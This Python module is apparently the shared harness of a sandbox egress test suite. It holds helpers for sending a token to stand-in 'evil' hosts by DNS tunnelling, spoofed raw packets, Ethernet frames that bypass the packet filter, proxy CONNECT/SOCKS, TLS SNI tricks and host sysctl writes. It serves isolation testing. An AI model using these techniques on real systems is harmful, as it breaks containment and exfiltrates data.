# What a case of the attack suite has at hand. Each case is a function of one argument, its number, and gives one line about what it saw
# itself: what counts is what arrived elsewhere. Runs as root of a sandbox, or in its network with all that a kernel allows.

import concurrent.futures
import json
import os
import random
import re
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

FACTS = json.loads(sys.argv[1])
GATEWAY, HOST, SUBNET, NEIGHBOUR, OWN = (FACTS[key] for key in ("gateway", "host", "subnet", "neighbour", "own"))
PREFIX, FIRST_PORT, HOST_PORT = FACTS["prefix"], FACTS["firstPort"], FACTS["hostPort"]
GOOD, OTHER, DNS = "203.0.113.10", "203.0.113.11", "203.0.113.53"
METADATA = "169.254.169.254"
# The machine's /proc/sys, for who has all capabilities (perform.ts).
SETTINGS = 9
WAIT = 1.2
CASES = {}
local = threading.local()


def token():
    return f"{PREFIX}{local.number}x"


def data():
    return token().encode()


def evil():
    return f"192.0.{2 + local.number // 250}.{local.number % 250}"


def evil6():
    return f"2001:db8:bad::{local.number:x}"


def port():
    return FIRST_PORT + local.number


def to(address, number=None):
    """Notes where the case is aimed at, so that what was recorded of it can be found."""
    local.targets.append([address, number])


def said(error):
    return f"{type(error).__name__} {os.strerror(error.errno) if getattr(error, 'errno', None) else error}"


def connect(address, number=None, timeout=WAIT, options=(), bind=None):
    number = number or port()
    to(address, number)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    one = socket.socket(family, socket.SOCK_STREAM)
    one.settimeout(timeout)
    for option in options:
        one.setsockopt(*option)
    if bind:
        one.bind(bind)
    one.connect((address, number))
    return one


def answer(one, limit=65536, timeout=WAIT):
    one.settimeout(timeout)
    got = b""
    try:
        while len(got) < limit:
            more = one.recv(4096)
            if not more:
                break
            got += more
    except (TimeoutError, socket.timeout):
        pass
    except ConnectionResetError:
        return got + b" reset" if got else b"reset"
    return got


def tcp(address, number=None, say=None, **more):
    """Connects, says the case's token or what is given, piece by piece, and gives what came back."""
    with connect(address, number, **more) as one:
        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        pieces = say if isinstance(say, (list, tuple)) else [data() if say is None else say]
        for piece in pieces:
            one.sendall(piece)
            if len(pieces) > 1:
                time.sleep(0.01)
        return "answered " + shown(answer(one))


def udp(address, number=None, say=None, options=(), bind=None, times=1):
    number = number or port()
    to(address, number)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.settimeout(WAIT / 2)
        for option in options:
            one.setsockopt(*option)
        if bind:
            one.bind(bind)
        for _ in range(times):
            one.sendto(data() if say is None else say, (address, number))
        try:
            return "answered " + shown(one.recv(4096))
        except (TimeoutError, socket.timeout):
            return "silence"


def shown(got):
    text = got.decode("latin1")
    first = text.split("\r\n")[0]
    body = text.split("\r\n\r\n", 1)[1][:60] if "\r\n\r\n" in text else ""
    return f"{len(got)} bytes: {first[:60]!r} {body!r}"


# Names


def label(text):
    return b"".join(bytes([len(part)]) + part.encode("latin1") for part in text.split(".") if part) + b"\0"


def question(name, kind=1, *, klass=1, flags=0x100, count=1, extra=b"", identity=None, additionals=0):
    identity = random.randrange(65536) if identity is None else identity
    head = struct.pack("!6H", identity, flags, count, 0, 0, additionals)
    return head + (label(name) + struct.pack("!2H", kind, klass)) * max(count, 1) + extra


def dns(name, kind=1, server=None, number=53, by="udp", message=None, wait=WAIT):
    server = server or GATEWAY
    message = message or question(name, kind)
    if by == "udp":
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(wait)
            one.sendto(message, (server, number))
            try:
                return rcode(one.recv(65535))
            except (TimeoutError, socket.timeout):
                return "silence"
    with connect(server, number) as one:
        one.sendall(struct.pack("!H", len(message)) + message)
        got = answer(one, 12)
        return rcode(got[2:]) if len(got) > 14 else "answered " + shown(got)


def rcode(got):
    if len(got) < 12:
        return f"answered {len(got)} bytes"
    _, flags, _, answers, _, _ = struct.unpack("!6H", got[:12])
    addresses = [socket.inet_ntoa(found) for found in re.findall(rb"\x00\x01\x00\x01....\x00\x04(....)", got, re.S)]
    names = ("ok", "malformed", "failed", "no such name", "not implemented", "refused")
    code = flags & 15
    return f"dns {names[code] if code < 6 else code}, {answers} records {' '.join(addresses)}".strip()


def learn(*names):
    for name in names:
        dns(name)


def flood(names, kind=1):
    """Asks for all of them without waiting, and gives how many answers came of each kind."""
    counts = {}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(WAIT)
        for name in names:
            one.sendto(question(name, kind), (GATEWAY, 53))
        try:
            for _ in names:
                what = rcode(one.recv(65535)).split(",")[0]
                counts[what] = counts.get(what, 0) + 1
        except (TimeoutError, socket.timeout):
            pass
    return f"{len(names)} names: " + ", ".join(f"{count} {what}" for what, count in counts.items())


def tunnel(names, kind):
    """Like flood; the names go out by themselves, so what counts is that most of them get no answer."""
    for name in names:
        to(name)
    text = flood(names, kind)
    passed = int((re.search(r"(\d+) dns ok", text) or [0, "0"])[1])
    if passed > len(names) / 2:
        udp("203.0.113.20")
        return f"{text}: it was not limited"
    return text


# TLS


def hello(*names, raw=None, ech=False, version=0x0303):
    """A ClientHello by hand, with one, several or no names."""
    listed = b"".join(b"\0" + struct.pack("!H", len(n)) + n for n in (each.encode("latin1") for each in names))
    extensions = b""
    if names:
        extensions += struct.pack("!HHH", 0, len(listed) + 2, len(listed)) + listed
    if raw is not None:
        extensions += raw
    if ech:
        extensions += struct.pack("!HH", 0xFE0D, 8) + b"\0" * 8
    groups = struct.pack("!HHHHH", 10, 6, 4, 0x1D, 0x17)
    versions = struct.pack("!HHBHH", 43, 5, 4, 0x0304, 0x0303)
    signatures = struct.pack("!HHHHH", 13, 6, 4, 0x0403, 0x0804)
    extensions += groups + versions + signatures
    body = struct.pack("!H", version) + b"\7" * 32 + b"\0" + struct.pack("!HHH", 4, 0x1301, 0xC02F) + b"\1\0"
    body += struct.pack("!H", len(extensions)) + extensions
    return b"\1" + struct.pack("!I", len(body))[1:] + body


def record(message, kind=22):
    return bytes([kind, 3, 1]) + struct.pack("!H", len(message)) + message


def server_name(name):
    listed = b"\0" + struct.pack("!H", len(name)) + name.encode()
    return struct.pack("!HHH", 0, len(listed) + 2, len(listed)) + listed


def tls(address, name, number=443, request=None, alpn=None, before=None):
    """A whole handshake for this name, then a request."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    with connect(address, number) as plain:
        if before:
            plain.sendall(before)
            answer(plain, 1)
        with context.wrap_socket(plain, server_hostname=name) as one:
            one.sendall(request or get(name or address))
            return "answered " + shown(answer(one))


# HTTP


def get(host, target=None, method="GET", more=""):
    target = f"/{token()}" if target is None else target
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode("latin1")


def http(address, *requests, number=80):
    return tcp(address, number, say=list(requests))


def keep_alive(first, second):
    """One request after the other on one connection, the second when the first has been answered."""
    with connect(GOOD, 80) as one:
        one.sendall(get(first, "/"))
        answer(one, 10)
        one.sendall(get(second))
        return "answered " + shown(answer(one))


def pipelined(*requests, number=80):
    """All requests in one piece."""
    return tcp(GOOD, number, say=b"".join(requests))


def by_proxy(greeting, bytes_of_answer, what):
    """Asks the proxy, and then says what is to go through it, whatever the answer was."""
    with connect(GATEWAY, int(FACTS["proxyPort"])) as one:
        # What is recorded is about where the proxy is to lead.
        local.targets.pop()
        one.settimeout(WAIT)
        for each in greeting:
            one.sendall(each)
            got = one.recv(bytes_of_answer)
        one.sendall(what)
        return f"{got[:40]!r}, answered {shown(answer(one))}"


def tunnelled(target, what):
    to(target.rsplit(":", 1)[0])
    return by_proxy([f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()], 4096, what)


def socks(address, number, what):
    if address[0] == 1:
        to(socket.inet_ntoa(address[1:]))
    return by_proxy([b"\5\1\0", b"\5\1\0" + address + struct.pack("!H", number)], 64, what)


def fast_open():
    to(evil(), port())
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.settimeout(WAIT)
        one.sendto(data(), 0x20000000, (evil(), port()))
        return "answered " + shown(answer(one))


# Packets by hand, where the kernel allows them


def scapy():
    import logging

    logging.getLogger("scapy").setLevel(logging.ERROR)
    import scapy.all

    scapy.all.conf.verb = 0
    return scapy.all


def aimed(packet):
    """Notes where a packet by hand goes, and where it says that it comes from."""
    if hasattr(packet, "dst") and hasattr(packet, "src"):
        to(packet.dst, getattr(packet.payload, "dport", None))
        if packet.src not in (OWN, FACTS.get("own6")):
            pretended(packet.src)


def pretended(source):
    to(f"from {source}")


def raw(packet):
    """An IPv4 packet whose every byte is ours."""
    one = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    one.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    with one:
        for each in packet if isinstance(packet, list) else [packet]:
            aimed(each)
            one.sendto(bytes(each), (each.dst, 0))
    return "sent"


def frame(packet):
    """A frame on the wire itself, past the sandbox's own packet filter and routes."""
    one = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    with one:
        one.bind((FACTS["interface"], 0))
        for each in packet if isinstance(packet, list) else [packet]:
            aimed(each.payload)
            if each.type not in (0x0800, 0x0806):
                to(f"0x{each.type:04x}")
            one.send(bytes(each))
    return "sent"


def switch6(off):
    """IPv6 in the sandbox's network, whose own view of the settings cannot be written to."""
    for one in ("all", "default", FACTS["interface"]):
        setting = os.open(f"net/ipv6/conf/{one}/disable_ipv6", os.O_WRONLY, dir_fd=SETTINGS)
        os.write(setting, str(off).encode())
        os.close(setting)


def ether(**more):
    own = open(f"/sys/class/net/{FACTS['interface']}/address").read().strip() if os.path.exists(
        f"/sys/class/net/{FACTS['interface']}/address") else None
    return scapy().Ether(**{"dst": FACTS["hostMac"], "src": FACTS["ownMac"] or own, **more})


def ip(**more):
    return scapy().IP(**{"src": OWN, "dst": evil(), **more})


def ip6(**more):
    return scapy().IPv6(**{"dst": evil6(), "src": "fe80::1", **more})


def sh(command, timeout=8):
    """A command of the shell, which finds $EVIL, $TOKEN, $PORT and the others."""
    to(evil(), None)
    env = {**os.environ, "EVIL": evil(), "EVIL6": evil6(), "TOKEN": token(), "PORT": str(port()), "GOOD": GOOD, "GATEWAY": GATEWAY, "INTERFACE": FACTS["interface"], "OWN": OWN}
    done = subprocess.run(["sh", "-c", command], env=env, capture_output=True, text=True, timeout=timeout)
    text = (done.stdout + done.stderr).strip().split("\n")[-1]
    return f"exit {done.returncode}: {text[:90]}"


def case(number, then):
    CASES[number] = then


def perform(number):
    local.number, local.targets = number, []
    try:
        outcome = CASES[number]()
    except Exception as error:  # whatever stops a case is its outcome
        outcome = said(error)
    return {"number": number, "outcome": str(outcome), "targets": local.targets}


def main(alone):
    together = [number for number in CASES if number not in alone]
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        for result in pool.map(perform, together):
            print("RESULT " + json.dumps(result), flush=True)
    for number in alone:
        print("RESULT " + json.dumps(perform(number)), flush=True)
